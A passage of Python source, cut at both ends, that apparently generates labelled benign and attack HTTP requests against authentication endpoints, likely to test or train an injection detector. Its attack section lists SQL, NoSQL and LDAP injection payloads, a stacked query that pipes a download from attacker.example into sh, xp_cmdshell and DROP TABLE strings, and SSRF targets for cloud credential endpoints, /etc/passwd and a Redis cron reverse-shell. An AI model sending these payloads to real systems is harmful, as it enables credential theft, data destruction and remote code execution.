            c.add("benign", "session-headers", "GET", rng.choice(["/api/v1/health/detailed", "/repository/maven-releases/com/acme/core/2.4.1/core-2.4.1.pom", "/v2/_catalog", "/api/v1/exports?format=csv"]),
                  api, [["Authorization", "Basic " + b64(f"{user}:{pw}".encode())]], ua=rng.choice(SERVER_UAS), browser=False)
        else:
            api = rng.choice(API_HOSTS)
            at = access_token(rng, f"https://{rng.choice(IDP_HOSTS)}/")
            proof = jwt(rng, {"jti": ruuid(rng), "htm": "POST", "htu": f"https://{api}/v1/payments", "iat": 1764950000 + rng.randint(0, 10**5),
                              "ath": b64url(hashlib.sha256(at.encode()).digest())}, alg="ES256", typ="dpop+jwt",
                        header={"jwk": {"kty": "EC", "crv": "P-256", "x": b64url(rng.randbytes(32)), "y": b64url(rng.randbytes(32))}})
            c.add("benign", "session-headers", "POST", "/v1/payments", api, [["Authorization", "DPoP " + at], ["DPoP", proof], ["Idempotency-Key", ruuid(rng)]],
                  jdump({"amount": {"value": "49.90", "currency": "EUR"}, "creditor": {"name": rng.choice(COMPANIES), "iban": "DE02100100109307118603"}, "reference": "Invoice #2026-1142 / O'Brien"}), JSON,
                  ua=rng.choice(APP_UAS), browser=False)
    # other Authorization schemes seen on identity APIs
    for i in range(6):
        p = person(rng)
        api = rng.choice(API_HOSTS)
        k = i % 3
        if k == 0:
            hv = (f'Digest username="{p["username"]}", realm="users@{api}", nonce="{rhex(rng, 32)}", uri="/dir/index.html?x=1&y=2", algorithm=SHA-256, '
                  f'qop=auth, nc=0000000{rng.randint(1, 9)}, cnonce="{rtok(rng, 16)}", response="{rhex(rng, 64)}", opaque="{rhex(rng, 32)}"')
            c.add("benign", "session-headers", "GET", "/dir/index.html?x=1&y=2", api, [["Authorization", hv]], ua=rng.choice(SERVER_UAS), browser=False)
        elif k == 1:
            hv = (f"AWS4-HMAC-SHA256 Credential=AKIA{rtok(rng, 16, string.ascii_uppercase + '234567')}/20261205/eu-west-1/cognito-idp/aws4_request, "
                  f"SignedHeaders=content-type;host;x-amz-date;x-amz-target, Signature={rhex(rng, 64)}")
            c.add("benign", "session-headers", "POST", "/", "cognito-idp.eu-west-1.amazonaws.com",
                  [["Authorization", hv], ["X-Amz-Date", "20261205T101500Z"], ["X-Amz-Target", "AWSCognitoIdentityProviderService.AdminGetUser"]],
                  jdump({"UserPoolId": "eu-west-1_Ab12Cd34E", "Username": p["email"]}), "application/x-amz-json-1.1", ua="aws-sdk-go-v2/1.32.6 os/linux lang/go#1.23.3 md/GOOS#linux api/cognitoidentityprovider#1.48.0", browser=False)
        else:
            hv = f'Signature keyId="hmac-key-{rng.randint(1, 9)}",algorithm="hs2019",headers="(request-target) (created) host digest",created={1764950000 + rng.randint(0, 10**5)},signature="{b64(rng.randbytes(32))}"'
            body = jdump({"event": "user.login", "user": p["email"], "ip": f"203.0.113.{rng.randint(1, 254)}"})
            c.add("benign", "session-headers", "POST", "/hooks/identity", api, [["Authorization", hv], ["Digest", "SHA-256=" + b64(hashlib.sha256(body.encode()).digest())]],
                  body, JSON, ua=rng.choice(SERVER_UAS), browser=False)


def benign_negotiate_mtls(c, rng):
    for i in range(24):
        p = person(rng)
        k = i % 6
        if k == 0:
            c.add("benign", "negotiate-mtls", "GET", rng.choice(["/", "/adfs/ls/wia?client-request-id=" + ruuid(rng), "/sites/finance/Shared%20Documents/Forms/AllItems.aspx", "/ReportServer/Pages/ReportViewer.aspx?%2fSales%2fQ3&rs:Command=Render"]),
                  rng.choice(["intranet.contoso.com", "sts.contoso.com", "sharepoint.corp.contoso.com"]), [["Authorization", "Negotiate " + spnego(rng)]])
        elif k == 1:
            c.add("benign", "negotiate-mtls", "GET", "/EWS/Exchange.asmx", "mail.contoso.com", [["Authorization", rng.choice(["NTLM ", "Negotiate "]) + ntlm1()]], ua="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)")
        elif k == 2:
            c.add("benign", "negotiate-mtls", "POST", "/EWS/Exchange.asmx", "mail.contoso.com",
                  [["Authorization", "NTLM " + ntlm3(rng, slug(p["first"])[:1] + slug(p["last"]).replace(" ", "")[:7], "CONTOSO", "WS-" + rtok(rng, 6, string.ascii_uppercase + string.digits))]],
                  '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><soap:Header><t:RequestServerVersion Version="Exchange2016"/></soap:Header><soap:Body><m:GetFolder><m:FolderShape><t:BaseShape>Default</t:BaseShape></m:FolderShape><m:FolderIds><t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:GetFolder></soap:Body></soap:Envelope>',
                  "text/xml; charset=utf-8", ua="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)")
        elif k == 3:
            cert = pem(der_cert(rng))
            subj = rng.choice([f'"CN={p["name"]},OU=Engineering,O=Acme\\, Inc.,L=Dublin,C=IE"', '"CN=payments-svc,OU=Platform,O=Acme Corp"', '""'])
            xfcc = (f'By=spiffe://cluster.local/ns/payments/sa/api;Hash={rhex(rng, 64)};Cert="{q(cert, safe="")}";Subject={subj};'
                    f'URI=spiffe://cluster.local/ns/frontend/sa/web;DNS=web.frontend.svc.cluster.local')
            c.add("benign", "negotiate-mtls", "GET", "/v1/accounts/" + ruuid(rng), "payments.internal.example.net",
                  [["X-Forwarded-Client-Cert", xfcc], ["X-Request-Id", ruuid(rng)], ["X-B3-TraceId", rhex(rng, 32)], ["X-Envoy-Expected-Rq-Timeout-Ms", "15000"]], ua="Go-http-client/2.0", browser=False)
        elif k == 4:
            cert = pem(der_cert(rng))
            hdr = rng.choice([("X-SSL-Client-Cert", "".join(cert.splitlines()[1:-1])), ("X-Client-Cert", q(cert, safe="/+=")),
                              ("X-Amzn-Mtls-Clientcert", q(cert, safe="=+/")), ("X-Forwarded-Tls-Client-Cert", q("".join(cert.splitlines()[1:-1])))])
            hs = [list(hdr), ["X-SSL-Client-Verify", "SUCCESS"], ["X-SSL-Client-DN", rng.choice([f"CN={p['name']},OU=Staff,O=Acme Corp,C=IE", f"emailAddress={p['email']},CN={p['name']},O=O'Reilly Media"])]]
            c.add("benign", "negotiate-mtls", "POST", "/api/v1/token", "mtls.auth.acme-corp.com", hs,
                  form([("grant_type", "client_credentials"), ("client_id", rtok(rng, 20)), ("scope", "payments:read")]), FORM, ua=rng.choice(SERVER_UAS), browser=False)
        else:
            c.add("benign", "negotiate-mtls", "GET", "/.well-known/est/cacerts", "pki.acme-corp.com",
                  [["Authorization", "Basic " + b64(f"enroll-{rng.randint(100, 999)}:{gen_password(rng, 24)}".encode())], ["Accept", "application/pkcs7-mime"]], ua="est-client/1.0", browser=False)


def benign_captcha(c, rng):
    for i in range(22):
        p = person(rng)
        app = rng.choice(APP_HOSTS)
        k = i % 5
        if k == 0:
            tok = "03A" + rtok(rng, rng.randint(480, 1900), B64URL_ALPHA)
            c.add("benign", "captcha", "POST", rng.choice(["/register", "/login", "/contact"]), app, [origin(app)],
                  form([("email", p["email"]), ("password", any_password(rng)), ("g-recaptcha-response", tok)]), FORM)
        elif k == 1:
            tok = "P1_" + jwt(rng, {"exp": 1764950000, "shard_id": rng.randint(1, 400000000), "rk": rtok(rng, 40), "pd": 0, "cdata": rtok(rng, 300, B64URL_ALPHA)}, alg="HS256", typ="JWT")
            c.add("benign", "captcha", "POST", "/signup", app, [origin(app)], jdump({"email": p["email"], "name": p["name"], "h-captcha-response": tok, "g-recaptcha-response": tok}, ascii_=False), JSON)
        elif k == 2:
            tok = "0." + rtok(rng, rng.randint(600, 900), B64URL_ALPHA) + "." + rhex(rng, 64)
            c.add("benign", "captcha", "POST", "/forgot-password", app, [origin(app)], form([("email", p["email"]), ("cf-turnstile-response", tok)]), FORM)
        elif k == 3:
            c.add("benign", "captcha", "POST", rng.choice(["/recaptcha/api/siteverify", "/siteverify", "/turnstile/v0/siteverify"]), rng.choice(["www.google.com", "api.hcaptcha.com", "challenges.cloudflare.com"]), [],
                  form([("secret", "0x" + rtok(rng, 38)), ("response", "03A" + rtok(rng, 800, B64URL_ALPHA)), ("remoteip", f"198.51.100.{rng.randint(1, 254)}")]), FORM, ua=rng.choice(SERVER_UAS), browser=False)
        else:
            # reCAPTCHA Enterprise assessment
            c.add("benign", "captcha", "POST", f"/v1/projects/acme-prod/assessments?key=AIza{rtok(rng, 35, B64URL_ALPHA)}", "recaptchaenterprise.googleapis.com", [],
                  jdump({"event": {"token": "03A" + rtok(rng, 1200, B64URL_ALPHA), "siteKey": "6L" + rtok(rng, 38, B64URL_ALPHA), "expectedAction": "LOGIN",
                                   "userAgent": rng.choice(BROWSER_UAS), "userIpAddress": f"203.0.113.{rng.randint(1, 254)}", "hashedAccountId": b64(hashlib.sha256(p["email"].encode()).digest())}}),
                  JSON, ua=rng.choice(SERVER_UAS), browser=False)


def benign_all():
    rng = random.Random(SEED)
    c = Corpus(rng, "pass")
    benign_login(c, rng)
    benign_register(c, rng)
    benign_password(c, rng)
    benign_mfa(c, rng)
    benign_oauth_authorize(c, rng)
    benign_oauth_token(c, rng)
    benign_oidc(c, rng)
    benign_saml(c, rng)
    benign_webauthn(c, rng)
    benign_scim(c, rng)
    benign_directory(c, rng)
    benign_profile(c, rng)
    benign_session(c, rng)
    benign_negotiate_mtls(c, rng)
    benign_captcha(c, rng)
    return c.rows


# ===========================================================================
# attacks
# ===========================================================================

ATTACKER = ["attacker.example", "evil.example.net", "x7k2.oast.example", "203.0.113.66", "cb.attacker-labs.example"]


def fake(payload, email=None):
    return {"first": "x", "last": "y", "name": payload, "email": email if email is not None else payload, "username": payload}


def rawform(pairs):
    """A form body as curl -d or a hand-written exploit sends it: only & = % +
    and # are encoded, everything else is sent as typed."""
    def enc(s):
        return "".join(q(ch) if ch in "&=%+#" else ch for ch in s)
    return "&".join(f"{enc(k)}={enc(v)}" for k, v in pairs)


def sqli_variant(rng, payload):
    """Attacker-side evasions that keep the SQL meaning."""
    r = rng.random()
    if r < 0.15:
        return payload.replace(" ", "/**/")
    if r < 0.25:
        return "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in payload)
    if r < 0.32:
        return payload.replace(" ", rng.choice(["\t", "\n", "  "]))
    return payload


LOGIN_SQLI = [
    "admin'--", "admin' #", "admin'/*", "' OR '1'='1'-- -", "' or 1=1 limit 1 -- -+", "admin' or '1'='1", "') or ('a'='a",
    "\" or \"\"=\"", "' OR 1=1#", "' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99',1-- -", "1' oR '1'='1' /*",
    "' OR 'x'='x", "x' OR username LIKE '%adm%'-- ", "'or''='", "' || '1'='1", "' OR TRUE-- ", "admin')-- -", "' OR 2>1-- ",
    "%' or 1=1 and '%'='", "' or 0x50=0x50-- ", "ad'||'min'-- ", "' UniOn SeLeCt NULL,NULL,version()-- -", "admin' oR 1 lIkE 1#",
    "admin\") or (\"1\"=\"1\"-- ", "') OR 1=1 LIMIT 1 OFFSET 0-- ", "' OR EXISTS(SELECT * FROM users)-- ", "jane@example.com' AND 1=1-- ",
    "' union all select 'admin','$2y$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy',1 from dual-- ",
]
PASSWORD_SQLI = ["' OR '1'='1", "x' or 'a'='a", "anything' OR 'x'='x'-- ", "') or true-- ", "' or 1 in (select 1)-- ", "pass' OR 1=1 LIMIT 1#"]
BLIND_SQLI = [
    "admin' AND SLEEP(5)-- -", "admin' AND (SELECT 5012 FROM (SELECT(SLEEP(5)))abc)-- -", "'; WAITFOR DELAY '0:0:5'--",
    "admin'||pg_sleep(5)-- ", "x' AND 1=(SELECT 1 FROM PG_SLEEP(5))-- ", "admin' AND BENCHMARK(5000000,MD5(1))#",
    "1' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)='a", "admin' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- -",
    "admin' AND ASCII(SUBSTR((SELECT user()),1,1))>64-- ", "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT database())))-- -",
    "' AND UPDATEXML(1,CONCAT(0x7e,version()),1)-- -",
    "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--", "admin' AND IF(1=1,SLEEP(5),0)-- -",
    "' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ", "x' AND (SELECT COUNT(*) FROM users) > 0 AND 'a'='a",
    "' AND 1=2 UNION SELECT table_name,null FROM information_schema.tables-- ", "admin' and randomblob(500000000)-- ",
    "admin' AND 7429=(SELECT 7429 FROM PG_SLEEP(5))-- ", "1' and (select case when (1=1) then pg_sleep(5) else pg_sleep(0) end)-- ",
]
STACKED_SQLI = [
    "'; DROP TABLE users;--", "x'; INSERT INTO users (email,password,role) VALUES ('eve@evil.example','x','admin');--",
    "'; UPDATE users SET password='$2y$10$abc' WHERE email='admin@example.com';--", "'; EXEC master..xp_cmdshell 'whoami';--",
    "1; SELECT pg_sleep(5);--", "'; SHUTDOWN;--", "x'; DECLARE @q varchar(99); SET @q='\\\\attacker.example\\x'; EXEC master.dbo.xp_dirtree @q;--",
    "'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--",
]


def attack_sqli(c, rng):
    # login forms (username, email or password field)
    for i, pl in enumerate(LOGIN_SQLI):
        pl = sqli_variant(rng, pl)
        if i % 3 == 2:
            m, uri, host, hs, body = login_form_request(rng, fake("admin"), pl, user="admin")
        else:
            m, uri, host, hs, body = login_form_request(rng, fake(pl), "x" + rtok(rng, 6), user=pl)
        if rng.random() < 0.3:
            # re-send the same fields unencoded, as a script does
            pairs = urllib.parse.parse_qsl(body, keep_blank_values=True)
            body = rawform(pairs)
        c.add("sqli", "login-form", m, uri, host, hs, body, FORM)
    for pl in PASSWORD_SQLI:
        m, uri, host, hs, body = login_form_request(rng, fake("admin", "admin@example.com"), pl, user="admin")
        c.add("sqli", "login-form", m, uri, host, hs, body, FORM)
    # JSON logins
    json_pl = LOGIN_SQLI[:8] + PASSWORD_SQLI[:3]
    for i, pl in enumerate(json_pl):
        if i < 8:
            m, uri, host, hs, body, ct = login_json_request(rng, fake(pl), "x" + rtok(rng, 6), user=pl)
        else:
            m, uri, host, hs, body, ct = login_json_request(rng, fake("admin@example.com"), pl, user="admin")
        c.add("sqli", "login-json", m, uri, host, hs, body, ct)
    esc = [
        '{"username":"admin\\u0027 OR \\u00271\\u0027=\\u00271\\u0027-- -","password":"x"}',
        '{"email":"x\\u0027 UNION SELECT id,email,\\u0027$2b$12$abc\\u0027,\\u0027admin\\u0027 FROM users-- ","password":"x"}',
        '{"login":"admin\'/**/OR/**/1=1#","password":"irrelevant"}',
        '{"user":{"email":"admin@example.com\' AND 1=1-- -","password":"x"}}',
    ]
    for body in esc:
        c.add("sqli", "login-json", "POST", rng.choice(["/api/auth/login", "/api/v1/session", "/users/sign_in.json"]), rng.choice(API_HOSTS), [], body, JSON)
    # blind and error-based in usernames, e-mails and lookups
    for i, pl in enumerate(BLIND_SQLI):
        pl = sqli_variant(rng, pl)
        app = rng.choice(APP_HOSTS)
        k = i % 5
        if k == 0:
            c.add("sqli", "blind", "POST", "/password/forgot", app, [origin(app)], form([("email", "admin@example.com" + pl if pl.startswith("'") else pl), ("_token", rtok(rng, 40))]), FORM)
        elif k == 1:
            m, uri, host, hs, body = login_form_request(rng, fake(pl), "x", user=pl)
            c.add("sqli", "blind", m, uri, host, hs, body, FORM)
        elif k == 2:
            c.add("sqli", "blind", "GET", "/api/users/exists?" + query([("email", "jane@example.com" + pl if pl.startswith("'") else pl)]), rng.choice(API_HOSTS))
        elif k == 3:
            c.add("sqli", "blind", "POST", "/api/auth/login", rng.choice(API_HOSTS), [], jdump({"email": pl, "password": "x"}), JSON)
        else:
            c.add("sqli", "blind", "GET", "/signup/check-username?" + light("username=" + pl), app, [["X-Requested-With", "XMLHttpRequest"]])
    for i, pl in enumerate(STACKED_SQLI):
        app = rng.choice(APP_HOSTS)
        if i % 2:
            c.add("sqli", "stacked", "POST", "/register", app, [origin(app)], form([("name", "Eve"), ("email", "eve@evil.example" + pl), ("password", "Password1!"), ("password_confirmation", "Password1!")]), FORM)
        else:
            c.add("sqli", "stacked", "POST", "/api/account/profile", rng.choice(API_HOSTS), [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]],
                  jdump({"displayName": "Eve" + pl, "timezone": "UTC"}), JSON)
    # reset tokens, verification links, invitations
    tok_pl = ["x' OR '1'='1", "' OR 1=1-- -", "1 OR 1=1", "a' UNION SELECT email,password FROM users-- -", "5 AND SLEEP(5)", "' AND 1=0 UNION SELECT NULL,@@version-- ",
              "abc' AND (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')='1", "0 union select 1,2,group_concat(email) from users"]
    for i, pl in enumerate(tok_pl):
        app = rng.choice(APP_HOSTS)
        k = i % 4
        if k == 0:
            c.add("sqli", "reset-token", "GET", f"/reset-password?token={light(pl) if rng.random() < 0.5 else q(pl)}&email=admin%40example.com", app)
        elif k == 1:
            c.add("sqli", "reset-token", "GET", f"/verify-email?id={q(pl)}&hash={rhex(rng, 40)}&expires=1765000000&signature={rhex(rng, 64)}", app)
        elif k == 2:
            c.add("sqli", "reset-token", "POST", "/api/password/reset", rng.choice(API_HOSTS), [], jdump({"token": pl, "password": "NewPassw0rd!", "password_confirmation": "NewPassw0rd!"}), JSON)
        else:
            c.add("sqli", "reset-token", "GET", f"/invitations/accept?code={light(pl)}", app)
    # OAuth parameters, SCIM filters translated to SQL, SAML NameID
    app = "app.example.com"
    oauth_pl = [
        ("GET", "/oauth2/authorize?" + query([("response_type", "code"), ("client_id", "web' UNION SELECT client_secret,1,1 FROM oauth_clients-- -"), ("redirect_uri", f"https://{app}/cb"), ("state", "x")])),
        ("POST", "/oauth/token", form([("grant_type", "refresh_token"), ("refresh_token", "x' OR '1'='1"), ("client_id", "mobile")])),
        ("POST", "/oauth/token", form([("grant_type", "client_credentials"), ("client_id", "svc' AND 1=1-- -"), ("client_secret", "x")])),
        ("POST", "/oauth2/introspect", form([("token", "' or 1=1 limit 1 offset 3-- "), ("token_type_hint", "access_token")])),
        ("GET", "/device?" + query([("user_code", "WDJB' OR 'a'='a")])),
    ]
    for m, uri, *body in oauth_pl:
        c.add("sqli", "oauth-param", m, uri, rng.choice(IDP_HOSTS), [], body[0] if body else None, FORM if body else None)
    for f in ['userName eq "x\' OR \'1\'=\'1"', 'userName eq "admin\'--"', 'emails.value co "\'; DROP TABLE users;--"', 'externalId eq "1\' UNION SELECT password FROM users--"']:
        c.add("sqli", "scim-filter", "GET", "/scim/v2/Users?" + query([("filter", f)]), "scim.acme-corp.com", [["Authorization", "Bearer " + rtok(rng, 40)]], browser=False)
    for nid in ["admin@example.com' OR '1'='1", "x' UNION SELECT username,password FROM users-- "]:
        xml = saml_response_xml(rng, fake("x", "x@example.com"), "idp.uni.example.edu", f"https://{app}/saml/acs", f"https://{app}/saml/metadata", nameid=xml_escape(nid))
        c.add("sqli", "saml-nameid", "POST", "/saml/acs", app, [origin("idp.uni.example.edu")], form([("SAMLResponse", b64(xml.encode())), ("RelayState", "/")]), FORM)


def attack_nosqli(c, rng):
    jsons = [
        {"username": "admin", "password": {"$ne": None}}, {"username": {"$gt": ""}, "password": {"$gt": ""}},
        {"username": {"$regex": "^adm"}, "password": {"$ne": "x"}}, {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$nin": [""]}},
        {"username": "admin", "password": {"$regex": "^p"}}, {"$where": "this.username == 'admin' && this.password.match(/^a.*/)"},
        {"username": "admin", "$where": "sleep(5000) || true"}, {"username": {"$exists": True}, "password": {"$exists": True}},
        {"email": {"$regex": "^a.*@example\\.com$"}, "password": {"$ne": ""}}, {"login": {"$eq": "admin"}, "password": {"$not": {"$eq": "x"}}},
        {"$or": [{"username": "admin"}, {"username": {"$ne": None}}], "password": {"$ne": None}}, {"username": "admin", "password": {"$type": 2}},
        {"username": "admin", "password": {"$gte": " "}}, {"email": "admin@example.com", "password": {"$nin": ["a", "b"]}},
        {"username": {"$ne": "nobody"}, "password": {"$lt": "~"}}, {"user": {"$elemMatch": {"role": "admin"}}, "pass": {"$ne": 1}},
        {"username": "admin", "password": {"$expr": {"$eq": [1, 1]}}}, {"username": "admin' || '1'=='1", "password": "x"},
        {"filter": {"$where": "function(){ var d = new Date(); do { var c = new Date(); } while (c - d < 5000); return true; }"}},
        {"username": "admin", "password": {"$function": {"body": "function() { return true }", "args": [], "lang": "js"}}},
    ]
    for i, obj in enumerate(jsons):
        path, host = rng.choice([("/api/auth/login", rng.choice(API_HOSTS)), ("/api/login", rng.choice(APP_HOSTS)), ("/auth/signin", rng.choice(APP_HOSTS)), ("/v2/session", "mobile-api.acmebank.example")])
        c.add("nosqli", "json-login", "POST", path, host, [], jdump(obj, compact=rng.random() < 0.6), JSON)
    brackets = [
        ("username=admin&password[$ne]=x", True), ("username[$regex]=^a&password[$ne]=1", True), ("user[$gt]=&pass[$gt]=", True),
        ("email[$exists]=true&password[$ne]=", True), ("username=admin&password%5B%24ne%5D=x", True), ("login%5B%24regex%5D=.*&password%5B%24regex%5D=.*", True),
        ("username[$in][]=admin&username[$in][]=root&password[$ne]=1", True), ("email=admin%40example.com&password[$gt]=", True),
        ("username[%24ne]=x&password[%24ne]=x", True), ("username=admin&password[$regex]=^s3", True),
        ("/api/users/login?username=admin&password[$ne]=1", False), ("/api/users?email[$regex]=.*&fields=email,passwordHash", False),
        ("/api/auth/check?token[$ne]=null", False), ("/login?username%5B%24gt%5D=&password%5B%24gt%5D=", False), ("/api/account?id[$where]=sleep(5000)", False),
    ]
    for s, is_body in brackets:
        app = rng.choice(APP_HOSTS)
        if is_body:
            c.add("nosqli", "form-brackets", "POST", rng.choice(["/login", "/api/login", "/session"]), app, [origin(app)], s, FORM)
        else:
            c.add("nosqli", "form-brackets", "GET", s, app)
    resets = [("/api/password/reset", {"token": {"$ne": None}, "password": "Pwned123!", "confirm": "Pwned123!"}),
              ("/api/password/forgot", {"email": {"$regex": ".*"}}), ("/api/auth/verify-otp", {"userId": "5f8a1c", "otp": {"$gt": ""}}),
              ("/api/invite/accept", {"code": {"$nin": []}, "password": "x"}), ("/api/auth/magic-link/verify", {"token": {"$exists": True}}),
              ("/api/password/reset", {"resetToken": {"$regex": "^a"}, "newPassword": "x"})]
    for path, obj in resets:
        c.add("nosqli", "reset-token", "POST", path, rng.choice(API_HOSTS), [], jdump(obj), JSON)


LDAP_USER = ["*)(uid=*))(|(uid=*", "admin)(&)", "admin)(|(password=*))", "*)(objectClass=*", "admin*)((|userPassword=*)", "*)(&(objectClass=user)(cn=*",
             "*))\x00", "admin)(!(&(1=0", "*)(|(mail=*))", ")(cn=*))(|(cn=*", "admin))(|(objectclass=*", "*(|(objectclass=*))", "jdoe)(userPassword=a*",
             "*)(sAMAccountName=*", "admin)(|(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=contoso,DC=com)"]


def attack_ldapi(c, rng):
    for i, pl in enumerate(LDAP_USER):
        app = rng.choice(["intranet.contoso.com", "people.uni.example.edu", "vpn.acme-corp.com"])
        k = i % 4
        if k == 0:
            c.add("ldapi", "directory-login", "POST", "/ldap/login", app, [origin(app)], form([("username", pl), ("password", "x"), ("domain", "CORP")]), FORM)
        elif k == 1:
            c.add("ldapi", "directory-login", "POST", "/idp/profile/SAML2/Redirect/SSO?execution=e1s1", "idp.uni.example.edu", [origin("idp.uni.example.edu")],
                  rawform([("j_username", pl), ("j_password", "anything"), ("_eventId_proceed", "")]), FORM)
        elif k == 2:
            c.add("ldapi", "directory-login", "POST", "/api/auth/ldap", app, [], jdump({"username": pl, "password": "*)(userPassword=*"}), JSON)
        else:
            m, uri, host, hs, body = login_form_request(rng, fake(pl), "x", user=pl)
            c.add("ldapi", "directory-login", m, uri, host, hs, body, FORM)
    search = ["*)(mail=*)(cn=*", "admin)(|(description=*", "*)(userPassword=*))(|(cn=*", "x*))(objectClass=*)(&(sn=x", "*)(uid=*))\x00",
              "jane)(|(telephoneNumber=*)", "*)(homeDirectory=*", "a*)(|(userPassword=*)(cn=*", "*))(|(objectCategory=computer", "Smith)(&(objectClass=*)(memberOf=*admin*"]
    for i, pl in enumerate(search):
        app = rng.choice(["intranet.contoso.com", "people.uni.example.edu", "phonebook.acme-corp.com"])
        if i % 3 == 0:
            c.add("ldapi", "directory-search", "GET", "/directory/search?" + query([("q", pl)], plus=rng.random() < 0.5), app)
        elif i % 3 == 1:
            c.add("ldapi", "directory-search", "GET", "/directory/search?" + light("q=" + pl), app)
        else:
            c.add("ldapi", "directory-search", "POST", "/people/search", app, [origin(app)], form([("givenName", ""), ("sn", pl), ("ou", "")]), FORM)
    for pl in ["x*)(uid=*))(|(uid=*", "admin)(|(userPassword=*))", "*)(objectClass=*", "j*)(|(mail=*@*"]:
        c.add("ldapi", "scim-filter", "GET", "/scim/v2/Users?" + query([("filter", f'userName eq "{pl}"')]), "scim.acme-corp.com", [["Authorization", "Bearer " + rtok(rng, 40)]], browser=False)


SSRF_METADATA = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/project-id", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "http://169.254.170.2/v2/credentials/",
    "http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/latest/meta-data/", "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/", "http://[::ffff:169.254.169.254]/latest/meta-data/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/", "http://instance-data/latest/meta-data/", "http://app.example.com@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/computeMetadata/v1/instance/attributes/kube-env?alt=json", "http://169.254.169.254/opc/v2/instance/", "http://169.254.169.254/metadata/v1/",
]
SSRF_INTERNAL = [
    "http://127.0.0.1:8080/actuator/env", "http://localhost:9200/_cat/indices", "http://127.1/admin", "http://0/server-status",
    "http://[::1]:2379/v2/keys/?recursive=true", "http://0.0.0.0:6379/", "http://2130706433:8500/v1/agent/self", "http://017700000001/",
    "http://localhost:8080/admin/realms/master/users", "http://127.0.0.1:10250/pods", "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "file:///etc/passwd", "file:///proc/self/environ", "file://localhost/c:/windows/win.ini",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
    "dict://127.0.0.1:11211/stats", "ldap://127.0.0.1:389/%0astats%0aquit", "netdoc:///etc/passwd", "jar:http://127.0.0.1:8080/x.jar!/",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ca%40b%3E%0D%0A", "http://localhost:2375/containers/json", "http://127.0.0.1:8500/v1/kv/?recurse",
]


def attack_ssrf(c, rng):
    met, inner = list(SSRF_METADATA), list(SSRF_INTERNAL)
    rng.shuffle(met)
    rng.shuffle(inner)
    targets = []
    for a, b in zip(met, inner):
        targets += [a, b]
    targets += met[len(inner):] + inner[len(met):]
    it = iter(targets * 3)
    # authorization requests
    for i in range(16):
        t = next(it)
        ps, _ = authorize_params(rng, "app.example.com")
        ps = [(k, t if k == "redirect_uri" else v) for k, v in ps]
        c.add("ssrf", "redirect-uri", "GET", rng.choice(["/authorize", "/oauth2/authorize", "/realms/acme/protocol/openid-connect/auth", "/connect/authorize"]) + "?" + query(ps, plus=rng.random() < 0.5), rng.choice(IDP_HOSTS))
    # token endpoint with the same redirect_uri
    for i in range(4):
        t = next(it)
        c.add("ssrf", "redirect-uri", "POST", "/oauth/token", rng.choice(IDP_HOSTS), [],
              form([("grant_type", "authorization_code"), ("code", rtok(rng, 43, B64URL_ALPHA)), ("redirect_uri", t), ("client_id", rtok(rng, 20)), ("code_verifier", pkce(rng)[0])]), FORM, ua=rng.choice(SERVER_UAS), browser=False)
    # RP-initiated logout
    for i in range(8):
        t = next(it)
        ps = [("id_token_hint", id_token(rng, "https://login.example.com/", rtok(rng, 20), fake("x", "x@example.com"))), ("post_logout_redirect_uri", t), ("state", rtok(rng, 16))]
        c.add("ssrf", "logout-redirect", "GET", rng.choice(["/logout", "/oidc/logout", "/realms/acme/protocol/openid-connect/logout", "/v2/logout"]) + "?" + query(ps[1:] if i % 3 == 0 else ps), rng.choice(IDP_HOSTS))
    # SAML RelayState
    for i in range(6):
        t = next(it)
        app = rng.choice(APP_HOSTS)
        if i % 2:
            xml = saml_response_xml(rng, person(rng), "idp.uni.example.edu", f"https://{app}/saml/acs", f"https://{app}/saml/metadata")
            c.add("ssrf", "relaystate", "POST", "/saml/acs", app, [origin("idp.uni.example.edu")], form([("SAMLResponse", b64(xml.encode())), ("RelayState", t)]), FORM)
        else:
            xml = authn_request_xml(rng, f"https://{app}/saml/metadata", "idp.uni.example.edu", f"https://{app}/saml/acs")
